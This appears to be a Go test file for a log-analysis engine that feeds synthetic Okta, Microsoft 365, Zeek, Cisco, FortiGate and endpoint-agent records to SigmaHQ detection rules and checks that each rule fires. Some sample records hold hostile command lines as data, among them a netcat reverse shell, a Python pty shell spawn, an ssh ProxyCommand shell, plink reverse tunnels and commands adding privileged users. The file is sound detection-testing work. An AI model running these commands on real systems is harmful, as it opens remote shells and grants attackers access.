package engine

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/footfall/footfall/decode"
	"github.com/footfall/footfall/internal/shared"
	"github.com/footfall/footfall/sigma"
)

// The middles and heads of the records below.
const (
	oktaActor = `,"published":"2026-03-02T09:00:00.000Z","uuid":"u-1","version":"0","severity":"INFO","actor":{"id":"00u1","type":"User","alternateId":"dora@example.com","displayName":"Dora"},"client":{"ipAddress":"198.51.100.30","userAgent":{"rawUserAgent":"x"}},`
	oktaDone  = oktaActor + `"outcome":{"result":"SUCCESS"}}`
	unified   = `{"CreationTime":"2026-03-02T09:00:00","Id":"i-1","RecordType":8,"OrganizationId":"t-1","UserType":0,"UserKey":"k","UserId":"dora@example.com","ClientIP":"198.51.100.30",`
	verdict   = unified + `"Operation":"AlertTriggered","Workload":"SecurityComplianceCenter","ResultStatus":"Succeeded","Name":"`
	activity  = `{"kind":"admin#reports#activity","id":{"time":"2026-03-02T09:00:00Z","uniqueQualifier":"1","applicationName":"admin","customerId":"C1"},"actor":{"email":"dora@example.com"},"ipAddress":"198.51.100.30","events":[`
	loggedIn  = `{"kind":"admin#reports#activity","id":{"time":"2026-03-02T09:00:00Z","uniqueQualifier":"1","applicationName":"login","customerId":"C1"},"actor":{"email":"dora@example.com"},"ipAddress":"198.51.100.30","events":[`
	oneLogin  = `{"id":1,"created_at":"2026-03-02T09:00:00Z","account_id":9,"actor_user_name":"dora","actor_user_id":3,"user_name":"eli","user_id":4,"ipaddr":"198.51.100.30","event_type_id":`
	fortiHead = `date=2026-03-02 time=09:00:00 devname="fgt1" devid="FGT60F0000000001" logid="0100044547" type="event" subtype="system" level="information" vd="root" tz="+0000" logdesc="Object attribute configured" user="dora" ui="GUI(198.51.100.30)" `
	iosHead   = `000123: Mar  2 2026 09:00:00.123 UTC: `
	typed     = iosHead + `%PARSER-5-CFGLOG_LOGGEDCMD: User:dora  logged command:`
	zeekJSON  = `"ts":1772442000.5,"uid":"C1","id.orig_h":"198.51.100.30","id.orig_p":50000,"id.resp_h":"203.0.113.9","id.resp_p":`

	falconWin   = `{"event_simpleName":"ProcessRollup2","aid":"a1","cid":"c1","event_platform":"Win","ContextTimeStamp":"1772442000.250","timestamp":"1772442000900","ParentBaseFileName":"cmd.exe","UserSid":"S-1-5-21-1-2-3-1001",`
	falconLin   = `{"event_simpleName":"ProcessRollup2","aid":"a1","cid":"c1","event_platform":"Lin","ContextTimeStamp":"1772442000.250","timestamp":"1772442000900","ParentBaseFileName":"java","UID":"1000",`
	deviceRow   = `{"Timestamp":"2026-03-02T09:00:00Z","DeviceId":"d1","DeviceName":"srv1.example.com","ActionType":"ProcessCreated","AccountName":"dora",`
	visible     = `{"event.type":"Process Creation","endpoint.name":"srv1","event.time":1772442000500,"src.process.storyline.id":"s","src.process.user":"EXAMPLE\\dora",`
	visibleWin  = visible + `"endpoint.os":"windows","src.process.image.path":"C:\\Windows\\System32\\cmd.exe",`
	visibleLin  = visible + `"endpoint.os":"linux","src.process.image.path":"/usr/bin/java",`
	forwarded   = `{"type":"endpoint.event.procstart","process_guid":"G1","parent_guid":"G0","backend_timestamp":"2026-03-02 09:00:01 +0000 UTC","org_key":"O1","device_id":"1","device_name":"EXAMPLE\\SRV1","device_timestamp":"2026-03-02 09:00:00.1 +0000 UTC","process_username":"EXAMPLE\\dora",`
	forwardedW  = forwarded + `"device_os":"WINDOWS","parent_path":"c:\\windows\\system32\\cmd.exe",`
	forwardedL  = forwarded + `"device_os":"LINUX","parent_path":"/usr/bin/java",`
	processRule = "rules/windows/process_creation/proc_creation_win_"
	linuxRule   = "rules/linux/process_creation/proc_creation_lnx_"
)

func okta(event string) string {
	return `{"eventType":"` + event + `","displayMessage":"x"` + oktaDone
}

// table is a log of Zeek with its header.
func table(path, fields, line string) string {
	return "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t" + path + "\n#open\t2026-03-02-09-00-00\n" +
		"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\t" + fields + "\n" +
		"1772442000.5\tC1\t192.0.2.20\t49820\t192.0.2.30\t445\t" + line
}

// serviceRules are rules of SigmaHQ for identity providers, services, network
// devices and endpoints, and a record that each must hit.
var serviceRules = [][2]string{
	{"rules/identity/okta/okta_admin_activity_from_proxy_query.yml", `{"eventType":"x.y","displayMessage":"x","securityContext":{"isProxy":true},"debugContext":{"debugData":{"requestUri":"/admin/users"}}` + oktaDone},
	{"rules/identity/okta/okta_admin_role_assigned_to_user_or_group.yml", okta("user.account.privilege.grant")},
	{"rules/identity/okta/okta_admin_role_assignment_created.yml", okta("iam.resourceset.bindings.add")},
	{"rules/identity/okta/okta_api_token_created.yml", okta("system.api_token.create")},
	{"rules/identity/okta/okta_application_sign_on_policy_modified_or_deleted.yml", okta("application.policy.sign_on.update")},
	{"rules/identity/okta/okta_fastpass_phishing_detection.yml", `{"eventType":"user.authentication.auth_via_mfa"` + oktaActor + `"outcome":{"result":"FAILURE","reason":"FastPass declined phishing attempt"}}`},
	{"rules/identity/okta/okta_identity_provider_created.yml", okta("system.idp.lifecycle.create")},
	{"rules/identity/okta/okta_mfa_reset_or_deactivated.yml", okta("user.mfa.factor.reset_all")},
	{"rules/identity/okta/okta_network_zone_deactivated_or_deleted.yml", okta("zone.delete")},
	{"rules/identity/okta/okta_new_behaviours_admin_console.yml", `{"eventType":"policy.evaluate_sign_on","debugContext":{"debugData":{"behaviors":"{New Geo-Location=NEGATIVE, New Device=POSITIVE}"}},"target":[{"type":"AppInstance","displayName":"Okta Admin Console"}]` + oktaDone},
	{"rules/identity/okta/okta_password_in_alternateid_field.yml", `{"eventType":"user.session.start","legacyEventType":"core.user_auth.login_failed","published":"2026-03-02T09:00:00Z","uuid":"u","actor":{"id":"x","type":"User","alternateId":"Secret!Word9"},"client":{"ipAddress":"198.51.100.30"},"outcome":{"result":"FAILURE","reason":"VERIFICATION_ERROR"}}`},
	{"rules/identity/okta/okta_policy_rule_modified_or_deleted.yml", okta("policy.rule.delete")},
	{"rules/identity/okta/okta_security_threat_detected.yml", okta("security.threat.detected")},
	{"rules/identity/okta/okta_suspicious_activity_enduser_report.yml", `{"eventType":"user.account.report_suspicious_activity_by_enduser","displayMessage":"User report suspicious activity"` + oktaDone},
	{"rules/identity/okta/okta_unauthorized_access_to_app.yml", `{"eventType":"app.generic.unauth_app_access_attempt","displayMessage":"User attempted unauthorized access to app"` + oktaDone},
	{"rules/identity/okta/okta_user_account_locked_out.yml", `{"eventType":"user.account.lock","displayMessage":"Max sign in attempts exceeded"` + oktaDone},
	{"rules/identity/okta/okta_user_session_start_via_anonymised_proxy.yml", `{"eventType":"user.session.start","securityContext":{"isProxy":true}` + oktaDone},
	{"rules-threat-hunting/cloud/okta/okta_password_health_report_query.yml", `{"eventType":"x.z","displayMessage":"x","debugContext":{"debugData":{"requestUri":"/reports/password-health/async"}}` + oktaDone},
	{"rules-emerging-threats/2023/TA/Okta-Support-System-Breach/okta_apt_suspicious_user_creation.yml", `{"eventType":"user.lifecycle.create","target":[{"type":"User","displayName":"svc_network_backup"}]` + oktaDone},

	{"rules/cloud/m365/audit/microsoft365_bypass_conditional_access.yml", unified + `"Operation":"UserLoggedIn","Workload":"AzureActiveDirectory","ResultStatus":"Success","ObjectId":"o","ApplicationId":"9ba1a5c7-f17a-4de9-a1f1-6178c8d51223","ExtendedProperties":[{"Name":"RequestType","Value":"Cmsi:Cmsi"}]}`},
	{"rules/cloud/m365/audit/microsoft365_disabling_mfa.yml", unified + `"Operation":"Disable Strong Authentication.","Workload":"AzureActiveDirectory"}`},
	{"rules/cloud/m365/audit/microsoft365_new_federated_domain_added_audit.yml", unified + `"Operation":"Add unverified domain.","Workload":"AzureActiveDirectory"}`},
	{"rules/cloud/m365/audit/microsoft365_suspicious_email_delivered.yml", unified + `"Operation":"TIMailData","Workload":"ThreatIntelligence","Directionality":"Inbound","DeliveryAction":"Delivered"}`},
	{"rules/cloud/m365/exchange/microsoft365_new_federated_domain_added_exchange.yml", unified + `"Operation":"Add-FederatedDomain","Workload":"Exchange","ResultStatus":"True"}`},
	{"rules/cloud/m365/threat_detection/microsoft365_from_susp_ip_addresses.yml", verdict + `Activity from suspicious IP addresses"}`},
	{"rules/cloud/m365/threat_management/microsoft365_impossible_travel_activity.yml", verdict + `Impossible travel activity"}`},
	{"rules/cloud/m365/threat_management/microsoft365_logon_from_risky_ip_address.yml", verdict + `Log on from a risky IP address"}`},
	{"rules/cloud/m365/threat_management/microsoft365_pst_export_alert_using_new_compliancesearchaction.yml", unified + `"Operation":"New-ComplianceSearchAction","Workload":"SecurityComplianceCenter","Payload":"New-ComplianceSearchAction -Export -Format pst"}`},
	{"rules-threat-hunting/cloud/m365/audit/microsoft365_susp_email_forwarding_activity.yml", unified + `"Operation":"New-InboxRule","Workload":"Exchange","Parameters":[{"Name":"ForwardTo","Value":"eve@example.net"}]}`},
	{"rules-threat-hunting/cloud/m365/audit/microsoft365_susp_inbox_rule_creation_or_update_activity.yml", unified + `"Operation":"Set-InboxRule","Workload":"Exchange","Parameters":[{"Name":"DeleteMessage","Value":"True"}]}`},

	{"rules/cloud/gcp/gworkspace/admin/gcp_gworkspace_application_access_levels_modified.yml", activity + `{"type":"APPLICATION_SETTINGS","name":"CHANGE_APPLICATION_SETTING","parameters":[{"name":"SETTING_NAME","value":"ContextAwareAccess x"}]}]}`},
	{"rules/cloud/gcp/gworkspace/admin/gcp_gworkspace_application_removed.yml", activity + `{"type":"DOMAIN_SETTINGS","name":"REMOVE_APPLICATION","parameters":[]}]}`},
	{"rules/cloud/gcp/gworkspace/admin/gcp_gworkspace_granted_domain_api_access.yml", activity + `{"type":"DOMAIN_SETTINGS","name":"AUTHORIZE_API_CLIENT_ACCESS","parameters":[]}]}`},
	{"rules/cloud/gcp/gworkspace/admin/gcp_gworkspace_mfa_disabled.yml", activity + `{"type":"SECURITY_SETTINGS","name":"ENFORCE_STRONG_AUTHENTICATION","parameters":[{"name":"NEW_VALUE","value":"false"}]}]}`},
	{"rules/cloud/gcp/gworkspace/admin/gcp_gworkspace_role_modified_or_deleted.yml", activity + `{"name":"CREATE_USER"},{"type":"DELEGATED_ADMIN_SETTINGS","name":"UPDATE_ROLE","parameters":[]}]}`},
	{"rules/cloud/gcp/gworkspace/admin/gcp_gworkspace_role_privilege_deleted.yml", activity + `{"type":"DELEGATED_ADMIN_SETTINGS","name":"REMOVE_PRIVILEGE"}]}`},
	{"rules/cloud/gcp/gworkspace/admin/gcp_gworkspace_user_granted_admin_privileges.yml", activity + `{"type":"USER_SETTINGS","name":"GRANT_ADMIN_PRIVILEGE"}]}`},
	{"rules/cloud/gcp/gworkspace/login/gcp_gworkspace_govattack.yml", loggedIn + `{"type":"attack_warning","name":"gov_attack_warning"}]}`},
	{"rules/cloud/gcp/gworkspace/login/gcp_gworkspace_out_of_domain_email_forwarding.yml", loggedIn + `{"type":"email_forwarding_change","name":"email_forwarding_out_of_domain"}]}`},
	{"rules/cloud/gcp/gworkspace/login/gcp_gworkspace_suspicious_login.yml", loggedIn + `{"type":"account_warning","name":"suspicious_login"}]}`},

	{"rules/identity/onelogin/onelogin_assumed_another_user.yml", oneLogin + `3}`},
	{"rules/identity/onelogin/onelogin_user_account_locked.yml", oneLogin + `532}`},
	{"rules/identity/cisco_duo/cisco_duo_mfa_bypass_via_bypass_code.yml", `{"event_type":"authentication","factor":"not_available","result":"success","reason":"bypass_user","timestamp":1772442000,"isotimestamp":"2026-03-02T09:00:00+00:00","txid":"t","user":{"name":"dora","key":"k"},"application":{"name":"vpn"},"access_device":{"ip":"198.51.100.30"}}`},

	{"rules/network/zeek/zeek_dce_rpc_mitre_bzar_execution.yml", table("dce_rpc", "endpoint\toperation", "svcctl\tCreateServiceW")},
	{"rules/network/zeek/zeek_dce_rpc_mitre_bzar_persistence.yml", `{"_path":"dce_rpc",` + zeekJSON + `445,"endpoint":"spoolss","operation":"RpcAddMonitor"}`},
	{"rules/network/zeek/zeek_dce_rpc_potential_petit_potam_efs_rpc_call.yml", table("dce_rpc", "endpoint\toperation", "efsrpc\tEfsRpcOpenFileRaw")},
	{"rules/network/zeek/zeek_dce_rpc_smb_spoolss_named_pipe.yml", table("smb_files", "action\tpath\tname", "SMB::FILE_OPEN\t\\\\\\\\fs1\\\\IPC$\tspoolss")},
	{"rules/network/zeek/zeek_smb_converted_win_susp_psexec.yml", table("smb_files", "action\tpath\tname", "SMB::FILE_OPEN\t\\\\\\\\fs1\\\\IPC$\tremcom-stdin")},
	{"rules/network/zeek/zeek_smb_converted_win_impacket_secretdump.yml", `{"_path":"smb_files",` + zeekJSON + `445,"action":"SMB::FILE_OPEN","path":"\\\\fs1\\ADMIN$","name":"SYSTEM32\\abc.tmp"}`},
	{"rules/network/zeek/zeek_smb_converted_win_susp_raccess_sensitive_fext.yml", table("smb_files", "action\tpath\tname", "SMB::FILE_OPEN\t\\\\\\\\fs1\\\\data\tmail\\\\dora.pst")},
	{"rules/network/zeek/zeek_smb_converted_win_transferring_files_with_credential_data.yml", `{"_path":"smb_files",` + zeekJSON + `445,"action":"SMB::FILE_OPEN","path":"\\\\fs1\\C$","name":"\\ntds.dit"}`},
	{"rules/network/zeek/zeek_rdp_public_listener.yml", `{"_path":"rdp",` + zeekJSON + `3389,"cookie":"dora","result":"encrypted"}`},
	{"rules/network/zeek/zeek_susp_kerberos_rc4.yml", table("kerberos", "request_type\tclient\tservice\tsuccess\tcipher", "TGS\tdora/EXAMPLE\tcifs/fs1\tT\trc4-hmac")},
	{"rules/network/zeek/zeek_dns_nkn.yml", table("dns", "query\tqtype_name\tZ", "seed.nkn.org\tA\t0")},
	{"rules/network/zeek/zeek_http_webdav_put_request.yml", `{"_path":"http",` + zeekJSON + `80,"method":"PUT","host":"x","uri":"/a","user_agent":"Microsoft-WebDAV-MiniRedir/10"}`},

	{"rules/network/cisco/aaa/cisco_cli_clear_logs.yml", typed + `clear logging`},
	{"rules/network/cisco/aaa/cisco_cli_disable_logging.yml", typed + `no logging host 192.0.2.5`},
	{"rules/network/cisco/aaa/cisco_cli_local_accounts.yml", typed + `username eve privilege 15 secret *`},
	{"rules/network/cisco/aaa/cisco_cli_crypto_actions.yml", typed + `crypto pki import x pkcs12`},
	{"rules/network/cisco/aaa/cisco_cli_modify_config.yml", typed + `ip http server`},
	{"rules/network/cisco/aaa/cisco_cli_input_capture.yml", typed + `show history`},
	{"rules/network/cisco/aaa/cisco_cli_net_sniff.yml", typed + `monitor capture point ip cef x`},
	{"rules/network/cisco/bgp/cisco_bgp_md5_auth_failed.yml", iosHead + `%IP-TCP-3-BADAUTH: Invalid MD5 digest from 198.51.100.30(1024) to 192.0.2.1:179`},
	{"rules/network/cisco/ldp/cisco_ldp_md5_auth_failed.yml", `RP/0/RSP0/CPU0:Mar  2 09:00:00.123 UTC: tcp[420]: %IP-TCP-3-SOCKET_TCP_PACKET_MD5_AUTHEN_FAIL : LDP: bad digest from 198.51.100.30`},
	{"rules-emerging-threats/2023/Exploits/CVE-2023-20198/cisco_syslog_cve_2023_20198_ios_xe_web_ui.yml", iosHead + `%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_tac_admin] [Source: 198.51.100.30] at 09:00:00 UTC Mon Mar 2 2026`},

	{"rules/network/fortinet/fortigate/fortinet_fortigate_new_admin_account_created.yml", fortiHead + `action="Add" cfgtid=1 cfgpath="system.admin" cfgobj="eve" msg="Add system.admin eve"`},
	{"rules/network/fortinet/fortigate/fortinet_fortigate_new_firewall_policy_added.yml", fortiHead + `action="Add" cfgtid=1 cfgpath="firewall.policy" cfgobj="7"`},
	{"rules/network/fortinet/fortigate/fortinet_fortigate_new_local_user_created.yml", fortiHead + `action="Add" cfgtid=1 cfgpath="user.local" cfgobj="eve"`},
	{"rules/network/fortinet/fortigate/fortinet_fortigate_user_group_modified.yml", fortiHead + `action="Edit" cfgtid=1 cfgpath="user.group" cfgobj="vpn"`},
	{"rules/network/fortinet/fortigate/fortinet_fortigate_vpn_ssl_settings_modified.yml", fortiHead + `action="Edit" cfgtid=1 cfgpath="vpn.ssl.settings"`},

	{processRule + "net_user_add.yml", falconWin + `"ImageFileName":"\\Device\\HarddiskVolume2\\Windows\\System32\\net.exe","CommandLine":"net user eve x /add"}`},
	{processRule + "mstsc_remote_connection.yml", falconWin + `"ImageFileName":"\\Device\\HarddiskVolume2\\Windows\\System32\\mstsc.exe","CommandLine":"mstsc.exe /v:srv2"}`},
	{processRule + "winrm_remote_powershell_session_process.yml", falconWin + `"ImageFileName":"\\Device\\HarddiskVolume2\\Windows\\System32\\wsmprovhost.exe","CommandLine":"wsmprovhost.exe -Embedding"}`},
	{linuxRule + "susp_java_children.yml", falconLin + `"ImageFileName":"/usr/bin/bash","CommandLine":"bash -i"}`},
	{linuxRule + "netcat_reverse_shell.yml", falconLin + `"ImageFileName":"/usr/bin/nc","CommandLine":"nc -e /bin/sh 198.51.100.30 9"}`},
	{"rules/windows/network_connection/net_connection_win_susp_outbound_kerberos_connection.yml", `{"event_simpleName":"NetworkConnectIP4","aid":"a1","cid":"c1","event_platform":"Win","timestamp":"1772442000900","ContextBaseFileName":"x.exe","LocalAddressIP4":"192.0.2.20","LocalPort":"50000","RemoteAddressIP4":"192.0.2.2","RemotePort":"88","ConnectionDirection":"0"}`},

	{processRule + "wmic_remote_execution.yml", deviceRow + `"FileName":"WMIC.exe","FolderPath":"C:\\Windows\\System32\\wbem\\WMIC.exe","ProcessCommandLine":"wmic /node:srv2 process call create cmd","InitiatingProcessFileName":"cmd.exe"}`},
	{processRule + "sysinternals_psexec_execution.yml", deviceRow + `"FileName":"p.exe","FolderPath":"C:\\Temp\\p.exe","ProcessVersionInfoOriginalFileName":"psexec.c","ProcessCommandLine":"p.exe \\\\srv2 cmd","InitiatingProcessFileName":"cmd.exe"}`},
	{processRule + "plink_port_forwarding.yml", `{"time":"2026-03-02T09:00:01Z","category":"AdvancedHunting-DeviceProcessEvents","properties":` + deviceRow + `"FileName":"x.exe","FolderPath":"C:\\Temp\\x.exe","ProcessVersionInfoFileDescription":"Command-line SSH, Telnet, and Rlogin client","ProcessCommandLine":"x.exe -R 3389:127.0.0.1:3389 h"}}`},
	{linuxRule + "ssh_shell_execution.yml", deviceRow + `"FileName":"ssh","FolderPath":"/usr/bin/ssh","ProcessCommandLine":"ssh -o ProxyCommand=;/bin/sh x","InitiatingProcessFileName":"bash","InitiatingProcessFolderPath":"/usr/bin/bash"}`},
	{"rules/windows/network_connection/net_connection_win_rdp_outbound_over_non_standard_tools.yml", `{"Timestamp":"2026-03-02T09:00:00Z","DeviceId":"d1","DeviceName":"srv1","ActionType":"ConnectionSuccess","RemoteIP":"192.0.2.30","RemotePort":3389,"LocalIP":"192.0.2.20","LocalPort":50000,"Protocol":"Tcp","InitiatingProcessFileName":"x.exe","InitiatingProcessFolderPath":"c:\\temp\\x.exe"}`},
	{"rules/windows/file/file_event/file_event_win_sysinternals_psexec_service.yml", `{"Timestamp":"2026-03-02T09:00:00Z","DeviceId":"d1","DeviceName":"srv1","ActionType":"FileCreated","FileName":"PSEXESVC.exe","FolderPath":"C:\\Windows\\PSEXESVC.exe","InitiatingProcessFileName":"System"}`},

	{processRule + "tscon_rdp_redirect.yml", visibleWin + `"tgt.process.image.path":"C:\\Windows\\System32\\tscon.exe","tgt.process.cmdline":"tscon 2 /dest:rdp-tcp#3"}`},
	{processRule + "net_user_add.yml", visibleWin + `"tgt.process.image.path":"C:\\Windows\\System32\\net.exe","tgt.process.cmdline":"net user eve x /add"}`},
	{linuxRule + "python_pty_spawn.yml", visibleLin + `"tgt.process.image.path":"/usr/bin/python3","tgt.process.cmdline":"python3 -c import pty;pty.spawn('/bin/sh')"}`},
	{linuxRule + "susp_java_children.yml", visibleLin + `"tgt.process.image.path":"/usr/bin/bash","tgt.process.cmdline":"bash -i"}`},

	{processRule + "netsh_port_forwarding.yml", forwardedW + `"process_path":"c:\\windows\\system32\\netsh.exe","process_cmdline":"netsh interface portproxy add v4tov4 listenport=1"}`},
	{processRule + "plink_susp_tunneling.yml", forwardedW + `"process_path":"c:\\windows\\explorer.exe","childproc_name":"c:\\temp\\plink.exe","target_cmdline":"plink -R 9:127.0.0.1:3389 h"}`},
	{linuxRule + "usermod_susp_group.yml", forwardedL + `"process_path":"/usr/sbin/usermod","process_cmdline":"usermod -aG root eve"}`},
	{linuxRule + "susp_java_children.yml", forwardedL + `"process_path":"/usr/bin/bash","process_cmdline":"bash -i"}`},
}

// TestServiceRules holds that SigmaHQ's rules for services, network devices
// and endpoint agents hit records by the names that they use: each its own.
func TestServiceRules(t *testing.T) {
	root := filepath.Join(shared.Dir(t), "data", "dev", "sigma")
	dir := t.TempDir()
	var srcs []sigma.Source
	have := map[string]bool{}
	for i, c := range serviceRules {
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%03d.log", i)), []byte(c[1]+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if have[c[0]] {
			continue
		}
		have[c[0]] = true
		data, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(c[0])))
		if err != nil {
			t.Fatal(err)
		}
		srcs = append(srcs, sigma.Source{Name: c[0], Data: data})
	}
	list, errs := sigma.Load(srcs)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	ids := map[string]string{}
	for i, r := range list {
		ids[srcs[i].Name] = r.Meta.ID
	}
	found := hitFiles(t, dir, list)
	for i, c := range serviceRules {
		if !found[ids[c[0]]+fmt.Sprintf(" %03d.log", i)] {
			t.Errorf("%s hits not record %d: %.200s", c[0], i, c[1])
		}
	}
	t.Logf("%d rules, %d records", len(list), len(serviceRules))
}

// hitFiles returns "rule file" of each finding's records.
func hitFiles(t *testing.T, dir string, list []*sigma.Rule) map[string]bool {
	t.Helper()
	h, err := Find(context.Background(), Options{
		Decoders: decode.All, Analytics: Analytics, Rules: list, Paths: []string{dir},
		Receipt: time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC),
	})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	for _, in := range h.Run.Inputs {
		if in.State != "read" {
			t.Errorf("%s is %s as %s", filepath.Base(in.Path), in.State, in.Format)
		}
	}
	out := map[string]bool{}
	for _, f := range h.Run.Findings {
		for _, ref := range f.Evidence {
			out[f.Rule.ID+" "+filepath.Base(h.Run.Inputs[ref.Input].Path)] = true
		}
	}
	return out
}
